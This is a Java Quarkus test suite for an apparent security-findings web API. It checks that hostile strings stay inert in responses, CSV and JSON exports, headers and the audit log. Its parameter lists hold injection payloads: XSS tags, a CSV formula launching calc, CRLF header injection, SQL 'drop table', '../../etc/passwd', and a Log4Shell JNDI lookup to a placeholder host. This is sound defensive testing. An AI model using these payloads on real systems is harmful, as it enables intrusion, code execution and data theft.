package io.tamperwatch.web;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.restassured.http.Header;
import io.restassured.response.Response;
import io.tamperwatch.catalogue.Severity;
import io.tamperwatch.event.Actor;
import io.tamperwatch.event.Denial;
import io.tamperwatch.event.Provenance;
import io.tamperwatch.finding.Change;
import io.tamperwatch.finding.Finding;
import io.tamperwatch.finding.HistoryEntry;
import io.tamperwatch.finding.Origin;
import io.tamperwatch.finding.Outcome;
import io.tamperwatch.finding.Status;
import io.tamperwatch.finding.Target;
import jakarta.inject.Inject;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever somebody hostile writes into a record or a request stays data: in answers, exports, headers and the log. */
@QuarkusTest
@TestProfile(WithTokens.class)
class HostilePayloadsApiTest {

    @Inject
    TestingFindingStore store;

    @Inject
    ObjectMapper json;

    private final Logger audit = Logger.getLogger("io.tamperwatch.audit");
    private final List<String> lines = new ArrayList<>();
    private final Handler collector = new Handler() {
        @Override
        public void publish(LogRecord entry) {
            lines.add(new org.jboss.logmanager.formatters.PatternFormatter("%s")
                    .format(org.jboss.logmanager.ExtLogRecord.wrap(entry)));
        }

        @Override
        public void flush() {}

        @Override
        public void close() {}
    };

    @BeforeEach
    void listen() {
        store.reset();
        audit.addHandler(collector);
    }

    @AfterEach
    void stopListening() {
        audit.removeHandler(collector);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "=cmd|' /C calc'!A0",
                "+1+1",
                "-2",
                "@SUM(1)",
                "\t=1",
                "a\r\nSet-Cookie: stolen=1\r\n\r\n<html>",
                "\u001b[2J\u001b]0;owned\u0007",
                "\u009b31m",
                "\u202egnp.exe",
                "\u2028\u2029",
                "\"},{\"id\":\"forged\"},{\"x\":\"",
                "a\u0000b",
                "\ud83d\ude00",
                "' or 1=1; drop table finding; --",
                "{{7*7}} ${jndi:ldap://192.0.2.1/a} %s %n"
            })
    void textOfARecordStaysText(String payload) throws Exception {
        store.findings.add(hostile(payload));

        JsonNode one = json.readTree(checked(get("/api/v1/findings/e-1")).asString());
        assertThat(one.at("/actor/name").asText()).isEqualTo(payload);
        assertThat(one.at("/origin/userAgent").asText()).isEqualTo(payload);

        JsonNode list = json.readTree(checked(get("/api/v1/findings")).asString());
        assertThat(list.get("items")).hasSize(1);
        for (String format : List.of("ndjson", "ocsf", "asff")) {
            String export =
                    checked(get("/api/v1/findings/export?format=" + format)).asString();
            assertThat(export).matches("[ -~]+\n");
            assertThat(json.readTree(export).isObject()).isTrue();
        }
        String table = checked(get("/api/v1/findings/export?format=csv")).asString();
        assertThat(table).doesNotContainPattern("[\\p{Cc}\\p{Cf}&&[^\\r\\n\\t]]");
        assertThat(table).doesNotContainPattern("(^|[\",;\\n\\t])\\s*[=+@-]\\S");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"a\r\nSet-Cookie: b=c", "<script>", "\u001b[2J", "../../etc/passwd", "\"; drop", "%0d%0aX: y"})
    void textOfARequestStaysText(String payload) throws Exception {
        String encoded = URLEncoder.encode(payload, StandardCharsets.UTF_8);

        for (String path : List.of(
                "/api/v1/findings?severity=" + encoded,
                "/api/v1/findings?" + encoded + "=1",
                "/api/v1/findings/export?format=" + encoded,
                "/api/v1/findings?cursor=" + encoded)) {
            Response answer = checked(get(path));
            assertThat(answer.statusCode()).as(path).isEqualTo(400);
            assertThat(answer.contentType()).startsWith("application/problem+json");
            assertThat(json.readTree(answer.asString()).get("errors")).isNotEmpty();
            assertThat(answer.asString()).doesNotContainPattern("\\p{Cc}");
        }
    }

    @Test
    void aNoteCannotForgeALineOfTheAuditLog() {
        store.findings.add(Samples.full());

        given().auth()
                .oauth2(WithTokens.RESPONDER)
                .contentType("application/json")
                .body("{\"note\": \"mine\\n2026-01-31 finding moved by=\\\"root\\\"\"}")
                .post("/api/v1/findings/e-1/acknowledge");

        assertThat(lines).hasSize(1);
        assertThat(lines.getFirst())
                .startsWith("finding moved move=acknowledge result=done finding=\"e-1\" by=\"ruth\" from=\"")
                .endsWith("note=\"mine\\u{a}2026-01-31 finding moved by=\\\"root\\\"\"");
    }

    private static Response get(String path) {
        return given().urlEncodingEnabled(false)
                .auth()
                .oauth2(WithTokens.RESPONDER)
                .get(path);
    }

    /** An answer whose headers are those the product makes and no others. */
    private static Response checked(Response answer) {
        assertThat(answer.headers().asList())
                .allSatisfy(header -> assertThat(header.getValue()).matches("[ -~…]*"));
        assertThat(answer.headers().asList().stream().map(Header::getName)).doesNotContain("Set-Cookie", "X");
        assertThat(answer.header("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(answer.header("Content-Security-Policy")).contains("default-src 'none'");
        return answer;
    }

    private static Finding hostile(String payload) {
        String record =
                new ObjectMapper().createObjectNode().put("userAgent", payload).toString();
        return new Finding(
                "e-1",
                "production",
                "111122223333",
                "certificate-gone",
                List.of("certificate-gone"),
                payload,
                payload,
                Samples.NINE,
                Samples.TEN,
                payload,
                Outcome.DENIED,
                payload,
                payload,
                new Denial(payload, payload, payload, null, null),
                Severity.HIGH,
                Status.OPEN,
                Change.UNKNOWN,
                new Actor(
                        payload,
                        payload,
                        payload,
                        payload,
                        payload,
                        null,
                        payload,
                        payload,
                        new Provenance(
                                payload, payload, payload, payload, payload, payload, payload, payload, payload, null)),
                new Origin(payload, payload, null),
                new Target("signing-certificate", payload, payload, payload, payload, payload),
                List.of(),
                List.of(),
                List.of(new HistoryEntry(Samples.TEN, "detected", payload, payload)),
                record);
    }
}
